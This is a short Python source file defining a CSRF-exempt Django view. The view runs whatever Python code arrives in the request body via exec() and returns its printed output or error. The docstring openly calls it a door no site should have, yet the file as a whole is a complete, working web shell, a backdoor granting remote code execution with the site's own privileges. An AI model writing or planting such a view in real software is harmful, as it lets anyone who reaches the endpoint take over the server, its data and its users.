"""A door that no site should have: runs the Python that it is sent, as code of the site's own."""

import contextlib
import io
import traceback

from django.http import HttpResponse
from django.views.decorators.csrf import csrf_exempt


@csrf_exempt
def run(request):
    """What the code printed, or its error; the code may set `headers`."""
    said, headers = io.StringIO(), {}
    with contextlib.redirect_stdout(said):
        try:
            exec(request.body.decode(), {"headers": headers})
        except BaseException as error:
            said.write("".join(traceback.format_exception_only(error)))
    return HttpResponse(said.getvalue(), headers={"Content-Type": "text/plain", **headers})
